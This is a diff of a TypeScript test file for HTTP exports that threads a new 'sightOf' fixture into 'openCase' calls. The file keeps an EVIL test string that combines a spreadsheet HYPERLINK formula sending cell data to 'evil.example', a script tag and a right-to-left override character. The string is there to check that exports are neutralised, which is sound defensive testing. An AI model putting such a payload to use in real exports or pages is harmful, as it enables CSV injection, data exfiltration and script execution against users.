@@ -5,7 +5,7 @@ import type { Host } from '../../example/server/host.js';
 import { sampleProposals } from '../../src/backends/sample-reviews.js';
 import { type Policy, type Proposal, type Review, type Reviewer, sawOf } from '../../src/core.js';
 import { calculates, readAs, readCsv } from '../audit/export.fixtures.js';
-import { accept, openReusable, signIn, startTestHost, type Visitor } from './host.fixtures.js';
+import { accept, openReusable, sightOf, signIn, startTestHost, type Visitor } from './host.fixtures.js';
 import { asAdministrator } from './log.fixtures.js';
 
 const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open")<script>alert(1)</script>\u202e"; =1+1';
@@ -116,7 +116,7 @@ describe('exports over HTTP', () => {
       review = await accept(people.amara, review, { type: 'claim' });
       review = await accept(people.amara, review, { type: 'release' });
     }
-    const record = await openCase(counting, id, reader);
+    const record = await openCase(counting, id, await sightOf(database, reader));
     const seqs: number[] = [];
     for await (const { seq } of record?.entries ?? []) {
       if (seq === 1) {
@@ -127,7 +127,7 @@ describe('exports over HTTP', () => {
     }
     expect(seqs).toEqual(Array.from({ length: 211 }, (_, at) => at + 1));
     expect(queries).toBe(3);
-    expect(await openCase(database, 'nowhere', reader)).toBeUndefined();
+    expect(await openCase(database, 'nowhere', await sightOf(database, reader))).toBeUndefined();
   });
 
   it('gives a supervisor the document, in their language, with nothing in it that runs', async () => {
